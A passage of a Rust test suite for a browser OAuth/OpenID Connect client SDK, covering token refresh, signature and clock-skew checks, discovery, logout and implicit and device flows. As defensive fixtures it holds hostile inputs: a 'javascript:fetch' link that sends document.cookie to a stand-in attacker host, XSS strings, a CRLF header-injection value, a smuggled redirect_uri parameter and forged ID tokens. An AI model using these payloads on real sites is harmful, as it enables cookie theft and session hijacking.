    assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-1");
    assert_eq!(h.http.sent().len(), 1);

    h.clock.set(NOW + 3_600_000 - 10_000); // 10 s left, under the 30 s margin
    h.http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
    );
    assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-2");
    let sent = h.http.sent();
    let form = parse_pairs(sent[1].form.as_deref().unwrap()).unwrap();
    assert_eq!(find(&form, "grant_type"), Some("refresh_token"));
    assert_eq!(find(&form, "refresh_token"), Some("RT-1"));
    let stored = h.client.tokens().unwrap();
    assert_eq!(
        stored.refresh_token.as_ref().map(RefreshToken::secret),
        Some("RT-2")
    );
    assert!(
        stored.id_token.is_some(),
        "the ID token is kept when not resent"
    );
}

#[test]
fn invalid_grant_on_refresh_ends_the_session() {
    let h = harness();
    signed_in(&h);
    h.http.answer(400, r#"{"error":"invalid_grant"}"#);
    let e = block_on(h.client.access_token(30, true)).unwrap_err();
    assert_eq!(e.code(), "login_required");
    assert!(h.client.tokens().is_none());
}

#[test]
fn failed_refresh_keeps_tokens_that_are_still_good() {
    let h = harness();
    signed_in(&h);
    h.http.answer(503, "<html>down</html>");
    let e = block_on(h.client.access_token(30, true)).unwrap_err();
    assert_eq!(e.code(), "invalid_response");
    assert_eq!(e.status(), Some(503));
    h.http.fail(TOKEN_URL, ErrorCode::NetworkError);
    let e = block_on(h.client.access_token(30, true)).unwrap_err();
    assert_eq!(e.code(), "network_error");
    assert_eq!(h.client.tokens().unwrap().access_token, "AT-1");
    assert!(h.client.is_authenticated());
}

#[test]
fn no_session_means_login_required() {
    let h = harness();
    let e = block_on(h.client.access_token(30, false)).unwrap_err();
    assert_eq!(e.code(), "login_required");
    assert!(!h.client.is_authenticated());
}

#[test]
fn corrupt_or_foreign_token_entries_are_ignored_and_cleaned() {
    let h = harness();
    let key = format!("{KEY_PREFIX}{CLIENT_ID}:tokens");
    for junk in [
        "{not json",
        r#"{"v":99,"access_token":"x","token_type":"Bearer"}"#,
        "null",
    ] {
        h.storage.set(&key, junk).unwrap();
        assert!(h.client.tokens().is_none());
        assert!(h.storage.get(&key).is_none(), "{junk} was not cleaned");
    }
}

#[test]
fn two_clients_on_one_origin_do_not_share_tokens() {
    let h = harness();
    signed_in(&h);
    let mut other = options();
    other.client_id = Some("another-client".into());
    let mut f = fakes();
    f.storage = h.storage.clone();
    let second = Client::new(Config::from_options(other, &WhatwgUrl).unwrap(), f);
    assert!(second.tokens().is_none());
    assert!(h.client.tokens().is_some());
}

/// A second client on `h`'s storage, HTTP and clock, with scope `profile`
/// (no ID token to check) and the id `client_id`.
fn neighbour(h: &Harness, client_id: &str) -> Harness {
    let mut o = options();
    o.client_id = Some(client_id.into());
    o.scope = Some("profile".into());
    let f = Fakes {
        storage: h.storage.clone(),
        http: h.http.clone(),
        clock: FakeClock(h.clock.clone()),
        ..fakes()
    };
    harness_on(o, f)
}

/// Starts a login of a client without `openid` (no nonce); returns its state.
fn start_without_openid(h: &Harness) -> String {
    let url = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
    find(&query_pairs(&url), "state").unwrap().to_string()
}

const NEIGHBOUR_TOKENS: &str =
    r#"{"access_token":"AT-N","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-N"}"#;

#[test]
fn a_client_id_that_extends_another_never_loses_its_session_to_it() {
    // Client `X:tx`'s entries used to sit inside client X's pending-login
    // prefix `X:tx:`: every X.loginWithRedirect() swept them away, and so
    // did X.handleRedirectCallback() on a forged `?code=x&state=tokens`.
    let x = harness();
    for suffix in [":tx", ":tx:", ":tokens", ":"] {
        let n = neighbour(&x, &format!("{CLIENT_ID}{suffix}"));
        let state = start_without_openid(&n);
        n.http.answer(200, NEIGHBOUR_TOKENS);
        callback(&n, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        // What the page holds is storage's now, not the hand-over to other tabs.
        *n.tabs.published.borrow_mut() = Published::Nothing;
        let e = callback(&x, &format!("{REDIRECT}?code=x&state=tokens")).unwrap_err();
        assert!(matches!(e.code(), "missing_transaction" | "state_mismatch"));
        assert!(
            n.client.tokens().is_some(),
            "{suffix}: taken by X's callback"
        );
        start(&x);
        assert!(n.client.tokens().is_some(), "{suffix}: swept by X's login");
        let e = callback(&x, &format!("{REDIRECT}?code=x&state=tokens")).unwrap_err();
        assert_eq!(e.code(), "state_mismatch");
        assert!(
            n.client.tokens().is_some(),
            "{suffix}: taken by X's callback"
        );
        // And the other way round: its login leaves X's pending ones alone.
        let (_, x_state, x_nonce) = start(&x);
        start_without_openid(&n);
        x.http.answer(200, &token_body(&good_id_token(&x_nonce)));
        callback(&x, &format!("{REDIRECT}?code=C2&state={x_state}")).unwrap();
    }
}

#[test]
fn a_token_set_stored_under_the_v1_key_is_moved_once() {
    let id = "legacy:app 1";
    let old_key = format!("wasm-oauth:v1:{id}:tokens");
    let new_key = "wasm-oauth:v2:legacy%3Aapp%201:tokens";
    let stored =
        r#"{"v":1,"access_token":"AT-OLD","token_type":"Bearer","refresh_token":"RT-OLD"}"#;
    let h = harness();
    h.storage.set(&old_key, stored).unwrap();
    let n = neighbour(&h, id);
    assert_eq!(n.client.tokens().unwrap().access_token, "AT-OLD");
    assert_eq!(h.storage.get(&old_key), None, "the old entry is removed");
    assert_eq!(h.storage.get(new_key).as_deref(), Some(stored));
    // A set already under the new key wins; the old entry still goes.
    h.storage
        .set(&old_key, &stored.replace("AT-OLD", "AT-OLDER"))
        .unwrap();
    let n = neighbour(&h, id);
    assert_eq!(n.client.tokens().unwrap().access_token, "AT-OLD");
    assert_eq!(h.storage.get(&old_key), None);
    // What is not a token set under that key (under the old names, another
    // client's pending login could be) is left alone.
    h.storage.set(&old_key, r#"{"v":1,"state":"s"}"#).unwrap();
    neighbour(&h, id);
    assert!(h.storage.get(&old_key).is_some());
}

#[test]
fn a_login_pending_under_the_v1_key_completes_once() {
    // A login started before the update: its pending login sits under the
    // old name, and the callback after the update still finds it, once.
    let h = harness();
    let (_, state, nonce) = start(&h);
    let new_key = format!("{KEY_PREFIX}{CLIENT_ID}:tx:{state}");
    let record = h.storage.get(&new_key).unwrap();
    h.storage.remove(&new_key);
    let old_key = format!("wasm-oauth:v1:{CLIENT_ID}:tx:{state}");
    h.storage.set(&old_key, &record).unwrap();
    h.http.answer(200, &token_body(&good_id_token(&nonce)));
    let url = format!("{REDIRECT}?code=C1&state={state}");
    callback(&h, &url).unwrap();
    assert_eq!(h.storage.get(&old_key), None);
    assert_eq!(
        callback(&h, &url).unwrap_err().code(),
        "missing_transaction"
    );
}

#[test]
fn par_pushes_the_request_and_sends_only_client_id_and_request_uri() {
    let mut o = options();
    o.use_par = Some(true);
    let h = harness_with(o);
    h.http.answer_at(
        "https://auth.example/api/v1/oauth/par",
        201,
        r#"{"request_uri":"urn:ietf:params:oauth:request_uri:abc","expires_in":600}"#,
    );
    let url = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
    let params = query_pairs(&url);
    assert_eq!(params.len(), 2);
    assert_eq!(find(&params, "client_id"), Some(CLIENT_ID));
    assert_eq!(
        find(&params, "request_uri"),
        Some("urn:ietf:params:oauth:request_uri:abc")
    );
    let sent = h.http.sent();
    assert_eq!(sent[0].url, "https://auth.example/api/v1/oauth/par");
    let pushed = parse_pairs(sent[0].form.as_deref().unwrap()).unwrap();
    assert_eq!(find(&pushed, "code_challenge_method"), Some("S256"));
    assert!(find(&pushed, "state").is_some());
}

#[test]
fn a_par_request_uri_stays_one_parameter_of_the_navigation() {
    let mut o = options();
    o.use_par = Some(true);
    let h = harness_with(o);
    let forged = "urn:x&prompt=none&redirect_uri=https://evil.example/#frag";
    h.http.answer_at(
        "https://auth.example/api/v1/oauth/par",
        201,
        &format!(r#"{{"request_uri":"{forged}","expires_in":600}}"#),
    );
    let url = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
    assert!(url.starts_with("https://auth.example/auth/authorize?client_id="));
    let params = query_pairs(&url);
    assert_eq!(params.len(), 2, "{url}");
    assert_eq!(find(&params, "request_uri"), Some(forged));
    assert!(url::Url::parse(&url).unwrap().fragment().is_none());
}

#[test]
fn par_failure_stores_no_pending_login() {
    let mut o = options();
    o.use_par = Some(true);
    let h = harness_with(o);
    h.http.answer_at(
        "https://auth.example/api/v1/oauth/par",
        400,
        r#"{"error":"invalid_request"}"#,
    );
    let e = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap_err();
    assert_eq!(e.code(), "invalid_request");
    assert!(h.storage.keys_with_prefix(KEY_PREFIX).is_empty());
}

#[test]
fn logout_revokes_refresh_then_access_token_and_clears() {
    let h = harness();
    signed_in(&h);
    h.http.answer_at(REVOKE_URL, 200, "");
    h.http.answer_at(REVOKE_URL, 200, "");
    let end = block_on(h.client.logout(true, None)).unwrap();
    assert_eq!(end, None);
    let sent = h.http.sent();
    assert_eq!(sent[1].url, "https://auth.example/api/v1/oauth/revoke");
    let first = parse_pairs(sent[1].form.as_deref().unwrap()).unwrap();
    assert_eq!(find(&first, "token"), Some("RT-1"));
    assert_eq!(find(&first, "token_type_hint"), Some("refresh_token"));
    let second = parse_pairs(sent[2].form.as_deref().unwrap()).unwrap();
    assert_eq!(find(&second, "token"), Some("AT-1"));
    assert!(h.client.tokens().is_none());
}

#[test]
fn logout_with_end_session_returns_its_url() {
    let mut o = options();
    o.endpoints = Some(EndpointOptions {
        end_session: Some("https://auth.example/logout".into()),
        ..EndpointOptions::default()
    });
    let h = harness_with(o);
    signed_in(&h);
    let url = block_on(h.client.logout(false, Some("https://app.example/bye")))
        .unwrap()
        .unwrap();
    let params = query_pairs(&url);
    assert_eq!(
        find(&params, "post_logout_redirect_uri"),
        Some("https://app.example/bye")
    );
    assert!(find(&params, "id_token_hint").is_some());
    assert_eq!(h.http.sent().len(), 1, "no revocation when revoke is false");
}

#[test]
fn userinfo_must_be_about_the_signed_in_user() {
    let h = harness();
    signed_in(&h);
    h.http.answer_at(
        USERINFO_URL,
        200,
        r#"{"sub":"urn:xeonr:user:alice","name":"Alice"}"#,
    );
    let body = block_on(h.client.userinfo()).unwrap();
    assert!(body.to_string().contains("Alice"));
    assert_eq!(h.http.sent()[1].bearer.as_deref(), Some("AT-1"));
    h.http
        .answer_at(USERINFO_URL, 200, r#"{"sub":"urn:xeonr:user:mallory"}"#);
    assert_eq!(
        block_on(h.client.userinfo()).unwrap_err().code(),
        "invalid_response"
    );
}

#[test]
fn a_token_answer_whose_tokens_or_scope_break_their_grammar_stores_nothing() {
    for (member, value) in [
        ("access_token", "AT\\r\\nX-Injected: 1"),
        ("refresh_token", "RT\\u0000"),
        ("scope", "openid\\nprofile"),
    ] {
        let h = harness();
        let (_, state, nonce) = start(&h);
        let body = token_body(&good_id_token(&nonce));
        let mut json: serde_json::Value = serde_json::from_str(&body).unwrap();
        json[member] = serde_json::from_str(&format!("\"{value}\"")).unwrap();
        h.http.answer(200, &json.to_string());
        let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
        assert_eq!(e.code(), "invalid_response", "{member}");
        assert!(h.client.tokens().is_none());
    }
}

#[test]
fn a_device_answer_with_a_script_link_is_refused_before_the_app_sees_it() {
    for (from, to) in [
        ("https://auth.example/sc", "javascript:alert(1)"),
        (
            "https://auth.example/auth/device?code=ABC123",
            "javascript:fetch('//evil.example/'+document.cookie)",
        ),
    ] {
        let h = harness();
        h.http
            .answer_at(DEVICE_URL, 200, &DEVICE_BODY.replacen(from, to, 1));
        let e = block_on(h.client.start_device_authorization(None)).unwrap_err();
        assert_eq!(e.code(), "invalid_response", "{to}");
    }
}

#[test]
fn claims_and_userinfo_reach_the_app_as_the_provider_signed_or_sent_them() {
    // Beyond the members the SDK checks, claims are the provider's
    // statements, handed over untouched: the SDK makes no link, navigation
    // or timer of them. An app that shows `picture` or `website` as a link
    // checks its scheme itself (tests/BAD_INPUTS.md, "Provider values").
    let h = harness();
    let (_, state, nonce) = start(&h);
    let claims = claims_at(&nonce, NOW / 1000).replace(
        "\"nonce\"",
        r#""picture":"javascript:alert(1)","name":"<img src=x onerror=alert(1)>","nonce""#,
    );
    h.http.answer(200, &token_body(&id_token(&claims)));
    callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
    let read = h.client.id_token_claims().unwrap();
    assert_eq!(read["picture"], "javascript:alert(1)");
    assert_eq!(read["name"], "<img src=x onerror=alert(1)>");
    h.http.answer_at(
        USERINFO_URL,
        200,
        r#"{"sub":"urn:xeonr:user:alice","website":"javascript:alert(1)"}"#,
    );
    let info = block_on(h.client.userinfo()).unwrap();
    assert_eq!(info["website"], "javascript:alert(1)");
}

#[test]
fn abandoned_pending_logins_are_swept() {
    let h = harness();
    start(&h);
    start(&h);
    h.clock.set(NOW + 11 * 60 * 1000);
    start(&h);
    let pending = h
        .storage
        .keys_with_prefix(&format!("{KEY_PREFIX}{CLIENT_ID}:tx:"));
    assert_eq!(pending.len(), 1);
}

// ---- ID token signatures (JWKS) ----

#[test]
fn id_token_with_a_bad_signature_is_refused_and_nothing_stored() {
    let h = harness();
    let (_, state, nonce) = start(&h);
    let forged = jwt(
        r#"{"alg":"RS256","kid":"k1"}"#,
        &claims_at(&nonce, NOW / 1000),
        b"forged",
    );
    h.http.answer(200, &token_body(&forged));
    let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
    assert_eq!(e.code(), "invalid_id_token");
    assert!(h.client.tokens().is_none());
}

#[test]
fn unknown_kid_refetches_the_jwks_once_then_fails() {
    let h = harness();
    signed_in(&h);
    assert_eq!(
        h.http.count_to(JWKS_URL),
        1,
        "fetched once for the first token"
    );
    let (_, state, nonce) = start(&h);
    let other_kid = jwt(
        r#"{"alg":"RS256","kid":"k9"}"#,
        &claims_at(&nonce, NOW / 1000),
        GOOD_SIGNATURE,
    );
    h.http.answer(200, &token_body(&other_kid));
    let e = callback(&h, &format!("{REDIRECT}?code=C2&state={state}")).unwrap_err();
    assert_eq!(e.code(), "invalid_id_token");
    assert_eq!(
        h.http.count_to(JWKS_URL),
        2,
        "refetched exactly once for the unknown kid"
    );
}

#[test]
fn jwks_is_cached_between_logins() {
    let h = harness();
    signed_in(&h);
    signed_in(&h);
    assert_eq!(h.http.count_to(JWKS_URL), 1);
}

#[test]
fn hs256_and_none_id_tokens_are_refused() {
    for header in [r#"{"alg":"HS256","kid":"k1"}"#, r#"{"alg":"none"}"#] {
        let h = harness();
        let (_, state, nonce) = start(&h);
        let token = jwt(header, &claims_at(&nonce, NOW / 1000), GOOD_SIGNATURE);
        h.http.answer(200, &token_body(&token));
        let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
        assert_eq!(e.code(), "invalid_id_token", "{header}");
        assert_eq!(
            h.http.count_to(JWKS_URL),
            0,
            "refused before any key lookup"
        );
    }
}

#[test]
fn es256_and_ps256_id_tokens_are_verified_with_a_key_of_their_own_type() {
    // (header, accepted): the key of the kid must have the type of the
    // alg, and an alg the JWK pins (k1: RS256) must be the header's.
    for (header, accepted) in [
        (r#"{"alg":"ES256","kid":"e1"}"#, true),
        (r#"{"alg":"PS256","kid":"p1"}"#, true),
        (r#"{"alg":"RS256","kid":"p1"}"#, true),
        (r#"{"alg":"PS256","kid":"k1"}"#, false),
        (r#"{"alg":"ES256","kid":"k1"}"#, false),
        (r#"{"alg":"RS256","kid":"e1"}"#, false),
        (r#"{"alg":"PS256","kid":"e1"}"#, false),
    ] {
        let h = harness();
        let (_, state, nonce) = start(&h);
        let token = jwt(header, &claims_at(&nonce, NOW / 1000), GOOD_SIGNATURE);
        h.http.answer(200, &token_body(&token));
        let result = callback(&h, &format!("{REDIRECT}?code=C1&state={state}"));
        match result {
            Ok(outcome) => {
                assert!(accepted, "{header} was accepted");
                assert_eq!(outcome.tokens.id_token.as_deref(), Some(token.as_str()));
            }
            Err(e) => {
                assert!(!accepted, "{header} was refused: {}", e.message());
                assert_eq!(e.code(), "invalid_id_token", "{header}");
                assert!(h.client.tokens().is_none());
            }
        }
    }
}

// ---- Clock skew ----

#[test]
fn browser_clock_ten_minutes_slow_or_fast_still_accepts_fresh_tokens() {
    for offset in [-600_000i64, 600_000] {
        let h = harness();
        // The provider's clock is NOW, as its readable Date header says;
        // the browser's is off by `offset`.
        h.clock.set((NOW as i64 + offset) as u64);
        h.http.date_ms.set(Some(NOW));
        let (_, state, nonce) = start(&h);
        h.http.answer(200, &token_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        assert_eq!(h.client.clock_skew_ms(), -offset);
        // Expiry is judged on the browser's own clock from when the token arrived.
        let t = h.client.tokens().unwrap();
        assert_eq!(
            t.expires_at_ms,
            Some((NOW as i64 + offset) as u64 + 3_600_000)
        );
        h.clock.set(t.expires_at_ms.unwrap());
        assert!(!h.client.is_authenticated(), "never used after it expired");
    }
}

/// Signs in through the code flow with an ID token issued at `iat_s` and
/// expiring an hour later, the provider's `Date` header unreadable.
fn sign_in_with_token_issued_at(h: &Harness, iat_s: u64) -> Result<(), AuthError> {
    let (_, state, nonce) = start(h);
    h.http
        .answer(200, &token_body(&id_token(&claims_at(&nonce, iat_s))));
    callback(h, &format!("{REDIRECT}?code=C1&state={state}")).map(|_| ())
}

#[test]
fn an_id_token_never_sets_the_clock_it_is_checked_against() {
    // A validly signed token that expired 5 hours ago (issued 6 hours ago),
    // or one issued 6 hours from now, from a token endpoint whose Date
    // header the page cannot read: each is judged by this clock and the
    // skew, refused, and leaves the offset alone.
    let now_s = NOW / 1000;
    for iat_s in [now_s - 6 * 3600, now_s + 6 * 3600, now_s + 61, now_s - 3661] {
        let h = harness();
        let e = sign_in_with_token_issued_at(&h, iat_s).unwrap_err();
        assert_eq!(e.code(), "invalid_id_token", "iat {iat_s}");
        assert!(h.client.tokens().is_none(), "nothing stored");
        assert_eq!(h.client.clock_skew_ms(), 0, "the token moved the clock");
        // The next good login, and its refresh, are not refused because of it.
        sign_in_with_token_issued_at(&h, now_s).unwrap();
        h.clock.set(NOW + 3_600_000 - 10_000);
        h.http.answer(
            200,
            &format!(
                r#"{{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"id_token":"{}"}}"#,
                id_token(&claims_at("unused", now_s + 3590).replace(",\"nonce\":\"unused\"", ""))
            ),
        );
        assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-2");
    }
    // Within the skew (60 s), either way, a token is accepted.
    for iat_s in [now_s + 59, now_s - 3659] {
        let h = harness();
        sign_in_with_token_issued_at(&h, iat_s).unwrap();
        assert_eq!(h.client.clock_skew_ms(), 0);
    }
}

#[test]
fn a_refreshed_id_token_outside_its_times_is_refused_and_moves_no_clock() {
    let h = harness();
    signed_in(&h);
    let now_s = NOW / 1000;
    for iat_s in [now_s - 6 * 3600, now_s + 6 * 3600] {
        let refreshed = id_token(&claims_at("x", iat_s).replace(",\"nonce\":\"x\"", ""));
        h.http.answer(
            200,
            &format!(
                r#"{{"access_token":"AT-X","token_type":"Bearer","expires_in":3600,"id_token":"{refreshed}"}}"#
            ),
        );
        let e = block_on(h.client.access_token(30, true)).unwrap_err();
        assert_eq!(e.code(), "invalid_id_token", "iat {iat_s}");
        assert_eq!(h.client.tokens().unwrap().access_token, "AT-1");
        assert_eq!(h.client.clock_skew_ms(), 0);
    }
}

#[test]
fn the_date_header_sets_the_offset_and_tokens_outside_it_are_still_refused() {
    // The provider's Date says its clock is 10 minutes ahead of ours: a
    // token fresh by that clock is accepted, one expired by it refused.
    let ahead = 600_000;
    let provider_now_s = (NOW + ahead) / 1000;
    let h = harness();
    h.http.date_ms.set(Some(NOW + ahead));
    let e = sign_in_with_token_issued_at(&h, provider_now_s - 3661).unwrap_err();
    assert_eq!(e.code(), "invalid_id_token");
    assert_eq!(h.client.clock_skew_ms(), ahead as i64);
    sign_in_with_token_issued_at(&h, provider_now_s).unwrap();
    // Without the header, a browser 10 minutes slow cannot tell: the token
    // looks issued in the future, and is refused rather than trusted.
    let h = harness();
    assert_eq!(
        sign_in_with_token_issued_at(&h, provider_now_s)
            .unwrap_err()
            .code(),
        "invalid_id_token"
    );
}

// ---- Discovery ----

fn discovery_options() -> AuthClientOptions {
    let mut o = options();
    o.discovery = Some(true);
    o.endpoints = Some(EndpointOptions {
        userinfo: Some("https://auth.example/explicit-userinfo".into()),
        ..EndpointOptions::default()
    });
    o
}

#[test]
fn discovery_is_read_once_and_explicit_endpoints_win() {
    let h = harness_with(discovery_options());
    let meta = "https://auth.example/.well-known/openid-configuration";
    h.http.answer_at(
        meta,
        200,
        r#"{"issuer":"https://auth.example","authorization_endpoint":"https://auth.example/authorize2","token_endpoint":"https://auth.example/api/v1/oauth/token","userinfo_endpoint":"https://auth.example/discovered-userinfo"}"#,
    );
    let url = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
    assert!(url.starts_with("https://auth.example/authorize2?"));
    let e = block_on(h.client.endpoints()).unwrap();
    assert_eq!(e.userinfo, "https://auth.example/explicit-userinfo");
    block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
    assert_eq!(h.http.count_to(meta), 1);
}

#[test]
fn a_response_without_iss_is_refused_when_the_provider_always_sends_it() {
    let h = harness_with(discovery_options());
    h.http.answer_at(
        "https://auth.example/.well-known/openid-configuration",
        200,
        r#"{"issuer":"https://auth.example","authorization_response_iss_parameter_supported":true}"#,
    );
    let url = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
    let q = query_pairs(&url);
    let state = find(&q, "state").unwrap();
    let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
    assert_eq!(e.code(), "issuer_mismatch");
    assert!(
        h.http.sent().iter().all(|r| r.url != TOKEN_URL),
        "no code exchange"
    );
}

#[test]
fn discovery_of_another_issuer_is_refused() {
    let h = harness_with(discovery_options());
    h.http.answer_at(
        "https://auth.example/.well-known/openid-configuration",
        200,
        r#"{"issuer":"https://evil.example","authorization_endpoint":"https://evil.example/a"}"#,
    );
    let e = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap_err();
    assert_eq!(e.code(), "issuer_mismatch");
    assert!(h.storage.keys_with_prefix(KEY_PREFIX).is_empty());
}

// ---- Refresh: single flight in the page, and across tabs ----

#[test]
fn fifty_concurrent_calls_share_one_refresh() {
    let h = harness();
    signed_in(&h);
    h.clock.set(NOW + 3_600_000); // expired
    h.http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
    );
    h.http.gate.set(true);
    let mut calls: Vec<_> = (0..50)
        .map(|_| Box::pin(h.client.access_token(30, false)))
        .collect();
    let mut cx = Context::from_waker(Waker::noop());
    for c in calls.iter_mut() {
        assert!(c.as_mut().poll(&mut cx).is_pending());
    }
    h.http.gate.set(false);
    let mut results = Vec::new();
    for c in calls.iter_mut() {
        results.push(loop {
            if let Poll::Ready(v) = c.as_mut().poll(&mut cx) {
                break v;
            }
        });
    }
    assert!(results
        .iter()
        .all(|r| r.as_ref().map(AccessToken::secret) == Ok("AT-2")));
    let refreshes = h
        .http
        .sent()
        .iter()
        .filter(|r| {
            r.form
                .as_deref()
                .is_some_and(|f| f.contains("grant_type=refresh_token"))
        })
        .count();
    assert_eq!(refreshes, 1);
}

#[test]
fn a_token_set_handed_over_by_another_tab_is_used_instead_of_refreshing() {
    let h = harness();
    signed_in(&h);
    h.clock.set(NOW + 3_600_000);
    // While this tab waits for the lock, another tab refreshes and publishes.
    let rotated = format!(
        r#"{{"v":1,"access_token":"AT-OTHER-TAB","token_type":"Bearer","expires_at":{},"refresh_token":"RT-2"}}"#,
        NOW + 2 * 3_600_000
    );
    *h.tabs.arrives_while_waiting.borrow_mut() = Some(rotated);
    let token = block_on(h.client.access_token(30, false)).unwrap();
    assert_eq!(token, "AT-OTHER-TAB");
    assert_eq!(h.tabs.locks_taken.get(), 1);
    assert_eq!(
        h.http.sent().len(),
        1,
        "no refresh request: the rotated token is not reused"
    );
}

#[test]
fn refresh_publishes_the_rotated_set_to_other_tabs() {
    let h = harness();
    signed_in(&h);
    h.http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
    );
    block_on(h.client.access_token(30, true)).unwrap();
    let Published::Tokens(published) = h.tabs.latest_published() else {
        panic!("nothing published");
    };
    assert!(published.contains("RT-2"));
}

// ---- Events ----

#[test]
fn events_tell_the_app_about_tokens_logout_and_errors() {
    let h = harness();
    signed_in(&h);
    h.http.answer(500, "down");
    block_on(h.client.access_token(30, true)).unwrap_err();
    h.http.answer_at(REVOKE_URL, 200, "");
    h.http.answer_at(REVOKE_URL, 200, "");
    block_on(h.client.logout(true, None)).unwrap();
    assert_eq!(
        *h.events.borrow(),
        vec!["tokens:4", "error:invalid_response", "logout"]
    );
}

#[test]
fn revocation_failure_still_clears_the_session() {
    let h = harness();
    signed_in(&h);
    // The refresh token's revocation fails; the access token's is still sent.
    h.http.fail(REVOKE_URL, ErrorCode::NetworkError);
    h.http.answer_at(REVOKE_URL, 200, "");
    block_on(h.client.logout(true, None)).unwrap();
    assert!(h.client.tokens().is_none());
    assert!(h.events.borrow().iter().any(|e| e == "error:network_error"));
    let hints: Vec<String> = h
        .http
        .sent()
        .iter()
        .filter(|r| r.url == REVOKE_URL)
        .map(|r| {
            let form = parse_pairs(r.form.as_deref().unwrap()).unwrap();
            find(&form, "token_type_hint").unwrap().to_string()
        })
        .collect();
    assert_eq!(hints, ["refresh_token", "access_token"]);
}

#[test]
fn logout_without_reachable_discovery_still_ends_the_session() {
    // Signed in by one client; another over the same storage, with
    // discovery, logs out while the provider's metadata cannot be fetched.
    let f = fakes();
    let h = harness_on(options(), f.clone());
    signed_in(&h);
    let other = Client::new(
        Config::from_options(discovery_options(), &WhatwgUrl).unwrap(),
        f,
    );
    h.http.fail(
        "https://auth.example/.well-known/openid-configuration",
        ErrorCode::NetworkError,
    );
    assert_eq!(block_on(other.logout(true, None)).unwrap(), None);
    assert!(other.tokens().is_none() && h.client.tokens().is_none());
    assert!(h.events.borrow().iter().any(|e| e == "error:network_error"));
}

#[test]
fn end_session_carries_a_state_with_the_return_address() {
    let mut o = options();
    o.endpoints = Some(EndpointOptions {
        end_session: Some("https://auth.example/logout".into()),
        ..EndpointOptions::default()
    });
    let h = harness_with(o);
    signed_in(&h);
    let url = block_on(h.client.logout(false, Some("https://app.example/")))
        .unwrap()
        .unwrap();
    let params = query_pairs(&url);
    assert_eq!(find(&params, "client_id"), Some(CLIENT_ID));
    assert_eq!(find(&params, "state").map(str::len), Some(22));
}

// ---- Implicit ----

/// Starts an implicit login of `kind`; returns its authorize URL's parameters.
fn start_implicit(h: &Harness, kind: ImplicitType) -> Vec<(String, String)> {
    let url = block_on(h.client.start_login(&LoginRequest::default(), Some(kind))).unwrap();
    query_pairs(&url)
}

#[test]
fn implicit_fragment_is_validated_and_never_keeps_a_refresh_token() {
    let h = harness();
    let q = start_implicit(&h, ImplicitType::IdTokenToken);
    let state = find(&q, "state").unwrap();
    let nonce = find(&q, "nonce").unwrap();
    let access = "IMPLICIT-AT";
    let at_hash = wasm_oauth::core::jwt::at_hash(access);
    let claims = claims_at(nonce, NOW / 1000)
        .replace("\"nonce\"", &format!("\"at_hash\":\"{at_hash}\",\"nonce\""));
    let id = id_token(&claims);
    let cb = format!("{REDIRECT}#access_token={access}&token_type=Bearer&expires_in=3600&id_token={id}&state={state}&refresh_token=SHOULD-NOT-KEEP");
    let out = callback(&h, &cb).unwrap();
    assert_eq!(out.tokens.access_token, access);
    assert_eq!(out.tokens.refresh_token, None);
    assert!(h.http.sent().is_empty(), "no code exchange");
}

#[test]
fn implicit_with_wrong_at_hash_or_in_the_query_is_refused() {
    let h = harness();
    let q = start_implicit(&h, ImplicitType::IdTokenToken);
    let state = find(&q, "state").unwrap().to_string();
    let nonce = find(&q, "nonce").unwrap().to_string();
    let claims = claims_at(&nonce, NOW / 1000).replace(
        "\"nonce\"",
        "\"at_hash\":\"AAAAAAAAAAAAAAAAAAAAAA\",\"nonce\"",
    );
    let cb = format!(
        "{REDIRECT}#access_token=AT&token_type=Bearer&id_token={}&state={state}",
        id_token(&claims)
    );
    assert_eq!(callback(&h, &cb).unwrap_err().code(), "invalid_id_token");

    let q = start_implicit(&h, ImplicitType::IdTokenToken);
    let state = find(&q, "state").unwrap();
    let e = callback(&h, &format!("{REDIRECT}?code=C&state={state}")).unwrap_err();
    assert_eq!(e.code(), "invalid_response");
}

#[test]
fn an_expired_id_token_in_an_implicit_response_is_refused() {
    // Through the address bar, an old (validly signed) token must not set the
    // clock: its exp is judged by this clock and the allowed skew.
    let h = harness();
    let q = start_implicit(&h, ImplicitType::IdTokenToken);
    let state = find(&q, "state").unwrap().to_string();
    let nonce = find(&q, "nonce").unwrap().to_string();
    let at_hash = wasm_oauth::core::jwt::at_hash("AT");
    let claims = claims_at(&nonce, NOW / 1000 - 7200)
        .replace("\"nonce\"", &format!("\"at_hash\":\"{at_hash}\",\"nonce\""));
    let cb = format!(
        "{REDIRECT}#access_token=AT&token_type=Bearer&expires_in=3600&id_token={}&state={state}",
        id_token(&claims)
    );
    assert_eq!(callback(&h, &cb).unwrap_err().code(), "invalid_id_token");
    assert!(h.client.tokens().is_none());
}

// ---- Device sign-in ----

const DEVICE_URL: &str = "https://auth.example/api/v1/oauth/code";
const DEVICE_BODY: &str = r#"{"device_code":"DC","user_code":"ABC123","verification_uri":"https://auth.example/sc","verification_uri_complete":"https://auth.example/auth/device?code=ABC123","expires_in":300,"interval":5}"#;

